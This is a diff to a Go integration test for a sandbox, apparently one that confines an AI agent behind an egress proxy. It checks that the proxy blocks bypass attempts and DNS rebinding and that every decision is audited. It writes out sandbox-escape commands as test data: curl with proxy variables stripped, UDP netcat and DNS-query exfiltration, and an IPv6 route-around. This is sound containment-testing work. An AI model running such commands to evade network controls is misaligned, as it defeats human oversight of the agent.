@@ -126,25 +126,40 @@ extra_hosts = ["api.allowed.test:10.0.2.2", "plain.allowed.test:10.0.2.2", "deni
 		if r.stdout != "403" {
 			t.Errorf("IP literal: %q %s", r.stdout, r)
 		}
-		// rebind.test is allowed by name but resolves to 127.0.0.1.
-		r = agent("curl -s --noproxy '' -x http://127.0.0.1:3128 http://rebind.test:3129/; curl -sk -o /dev/null -w '%{http_connect}' https://rebind.test:3129/")
-		if !strings.Contains(r.stdout, "403") && !strings.Contains(r.stdout, "private") {
-			t.Errorf("name resolving to loopback: %s", r)
+		// rebind.test is allowed by name but resolves to 127.0.0.1, where
+		// the canary listens: each way of asking is refused on its own.
+		r = agent("curl -s -o /dev/null -w '%{http_code}' --noproxy '' -x http://127.0.0.1:3128 http://rebind.test:3129/")
+		if r.stdout != "403" {
+			t.Errorf("plain HTTP to a name resolving to loopback: %q %s", r.stdout, r)
+		}
+		r = agent("curl -sk -o /dev/null -w '%{http_connect}' https://rebind.test:3129/")
+		if r.stdout != "403" {
+			t.Errorf("CONNECT to a name resolving to loopback: %q %s", r.stdout, r)
 		}
 	})
 	t.Run("no way around the proxy", func(t *testing.T) {
-		before, udpBefore := inet.hits.Load(), inet.udpHits.Load()
+		// Each attack reaches a server of the test's when the workspace,
+		// on the pod's network, makes it (the controls below): so it
+		// fails in the agent because the agent has no way out, not
+		// because nothing listens.
 		attacks := []string{
 			fmt.Sprintf("env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --max-time 3 http://10.0.2.2:%d/", inet.plainPort),
 			fmt.Sprintf("curl -sS --max-time 3 --noproxy '*' -k https://10.0.2.2:%d/", inet.tlsPort),
 			fmt.Sprintf("echo exfil | busybox nc -u -w 1 10.0.2.2 %d", inet.udpPort),
-			"busybox nslookup exfil.test 10.0.2.2",
-			fmt.Sprintf("curl -6 -sS --max-time 3 --noproxy '*' http://[fd00::2]:%d/", inet.plainPort),
+			// A DNS query, to the test's UDP server as the name server.
+			fmt.Sprintf("busybox nslookup exfil.test 10.0.2.2:%d", inet.udpPort),
 		}
+		before, udpBefore := inet.hits.Load(), inet.udpHits.Load()
 		for _, a := range attacks {
 			if r := agent(a); r.code == 0 {
 				t.Errorf("attack succeeded: %s\n%s", a, r)
 			}
+		}
+		// IPv6: the pod has none (slirp4netns without --enable-ipv6), so
+		// no control can show this one reaching anything; the route
+		// check below is what holds for it.
+		if r := agent(fmt.Sprintf("curl -6 -sS --max-time 3 --noproxy '*' http://[fd00::2]:%d/", inet.plainPort)); r.code == 0 {
+			t.Errorf("IPv6 attack succeeded: %s", r)
 		}
 		if r := agent("cat /proc/net/route /proc/net/ipv6_route | grep -v '^Iface' | grep -v ' lo$' | grep -vi 'lo *$' | head"); strings.TrimSpace(r.stdout) != "" {
 			t.Errorf("agent has routes: %s", r.stdout)
@@ -152,6 +167,14 @@ extra_hosts = ["api.allowed.test:10.0.2.2", "plain.allowed.test:10.0.2.2", "deni
 		time.Sleep(500 * time.Millisecond)
 		if inet.hits.Load() != before || inet.udpHits.Load() != udpBefore {
 			t.Errorf("a direct attack reached the test's servers (http %d->%d, udp %d->%d)", before, inet.hits.Load(), udpBefore, inet.udpHits.Load())
+		}
+		before, udpBefore = inet.hits.Load(), inet.udpHits.Load()
+		for _, a := range attacks {
+			devaipod(t, nil, "exec", name, "--", "sh", "-c", a)
+		}
+		time.Sleep(500 * time.Millisecond)
+		if http, udp := inet.hits.Load()-before, inet.udpHits.Load()-udpBefore; http != 2 || udp < 2 {
+			t.Errorf("controls: the attacks made from the workspace reached the test's servers %d times over HTTP (want 2) and %d over UDP (want 2 or more, DNS retries): the agent's attempts prove nothing", http, udp)
 		}
 	})
 	t.Run("allow and deny change the policy without a restart", func(t *testing.T) {
@@ -170,21 +193,27 @@ extra_hosts = ["api.allowed.test:10.0.2.2", "plain.allowed.test:10.0.2.2", "deni
 	})
 	t.Run("every decision is audited", func(t *testing.T) {
 		r := mustDevaipod(t, nil, "audit", name, "-o", "json")
-		var allowed, denied bool
+		var allowed, denied, literal bool
+		rebound := 0
 		for _, line := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
 			var rec proxy.Record
 			if err := json.Unmarshal([]byte(line), &rec); err != nil {
 				t.Fatalf("audit line %q: %v", line, err)
 			}
-			if rec.Host == "api.allowed.test" && rec.Decision == "allow" && rec.BytesDown > 0 && rec.Rule != "" {
+			switch {
+			case rec.Host == "api.allowed.test" && rec.Decision == "allow" && rec.BytesDown > 0 && rec.Rule != "":
 				allowed = true
-			}
-			if rec.Host == "denied.test" && rec.Decision == "deny" && rec.Reason != "" {
+			case rec.Host == "denied.test" && rec.Decision == "deny" && rec.Reason == proxy.ReasonNotAllowed:
 				denied = true
+			case rec.Host == "127.0.0.1" && rec.Port == 3129 && rec.Decision == "deny" && rec.Reason == proxy.ReasonIPLiteral:
+				literal = true
+			case rec.Host == "rebind.test" && rec.Decision == "deny" && rec.Reason == proxy.ReasonPrivateAddress:
+				rebound++ // plain HTTP and CONNECT
 			}
 		}
-		if !allowed || !denied {
-			t.Errorf("audit lacks the allowed CONNECT (%v) or the denial (%v):\n%s", allowed, denied, r.stdout)
+		if !allowed || !denied || !literal || rebound != 2 {
+			t.Errorf("audit lacks the allowed CONNECT (%v), the denial (%v), the IP literal (%v) or both refusals of the name resolving to loopback (%d of 2):\n%s",
+				allowed, denied, literal, rebound, r.stdout)
 		}
 		r = mustDevaipod(t, nil, "audit", name, "--denied")
 		if strings.Contains(r.stdout, "\tallow\t") || strings.Contains(r.stdout, " allow ") || !strings.Contains(r.stdout, "deny") {
